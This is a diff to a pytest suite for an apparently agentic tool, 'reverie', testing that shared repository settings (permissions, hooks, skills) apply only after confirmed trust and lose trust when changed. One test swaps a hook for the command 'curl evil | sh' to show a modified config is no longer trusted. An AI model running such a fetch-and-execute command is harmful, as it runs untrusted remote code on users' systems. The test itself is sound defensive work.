@@ -10,6 +10,8 @@ import pytest
 from reverie.runtime.places.shared_settings import with_shared
 from reverie.settings import Settings
 
+from .conftest import on_a_screen
+
 Answer = tuple[int, str, str]
 SHARED = """
 [permissions]
@@ -47,14 +49,14 @@ def test_they_are_used_after_trust_and_not_after_a_change(
 ) -> None:
     assert used(home, repository) == (False, used(home, repository)[1])
     assert "'reverie trust' shows and accepts them" in used(home, repository)[1]
-    code, out, _ = reverie("trust", repository)
+    code, out, _ = reverie("trust", repository, "--yes")
     assert code == 0
     for line in ("allow Bash(make test)", "deny Read(secrets/**)", "hook stop: ./tell.sh"):
         assert line in out
     assert used(home, repository) == (True, "")
     (repository / ".reverie.toml").write_text(SHARED.replace("./tell.sh", "curl evil | sh"))
     assert used(home, repository)[0] is False
-    assert "is now trusted" in reverie("trust", repository)[1]
+    assert "is now trusted" in reverie("trust", repository, "--yes")[1]
     assert reverie("trust", repository, "--remove")[0] == 0
     assert used(home, repository)[0] is False
 
@@ -65,12 +67,33 @@ def test_a_dry_run_of_trust_accepts_nothing(home: Path, repository: Path, reveri
 
 
 @pytest.mark.requirement("S2")
+@pytest.mark.slow
+def test_trust_shows_what_would_be_used_and_asks(
+    home: Path, repository: Path, reverie: Callable[..., Answer], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (repository / ".claude" / "skills" / "deploy").mkdir(parents=True)
+    (repository / ".claude" / "skills" / "deploy" / "SKILL.md").write_text("---\nname: deploy\n---\n")
+    code, _, err = reverie("trust", repository)
+    assert (code, used(home, repository)[0]) == (2, False)
+    assert err == (
+        "reverie: trusted nothing: confirmation needs a terminal; "
+        f"--yes trusts {repository}, --dry-run only shows this\n"
+    )
+    shown = on_a_screen("trust", str(repository), typed=b"n\n", code=1)
+    assert used(home, repository)[0] is False
+    for line in ("allow Bash(make test)", "hook stop: ./tell.sh", "skills: deploy", "Trust /"):
+        assert line in shown
+    assert "is now trusted" in on_a_screen("trust", str(repository), typed=b"y\n")
+    assert used(home, repository)[0] is True
+
+
+@pytest.mark.requirement("S2")
 def test_a_forged_worktree_gets_nothing_of_a_trusted_repository(
     home: Path, repository: Path, tmp_path: Path, reverie: Callable[..., Answer]
 ) -> None:
     from reverie.runtime.places.trust import root_of
 
-    assert reverie("trust", repository)[0] == 0
+    assert reverie("trust", repository, "--yes")[0] == 0
     forged = tmp_path / "forged"
     forged.mkdir()
     (forged / ".git").write_text(f"gitdir: {repository / '.git'}\n")
@@ -91,7 +114,7 @@ def test_what_a_repository_may_not_share_is_ignored_with_a_notice(
     home: Path, repository: Path, reverie: Callable[..., Answer], text: str
 ) -> None:
     (repository / ".reverie.toml").write_text(text)
-    assert reverie("trust", repository)[0] == 2
+    assert reverie("trust", repository, "--yes")[0] == 2
     settings, notice = with_shared(Settings(home=home), repository)
     assert settings == Settings(home=home)
     assert notice.startswith("ignored: ")
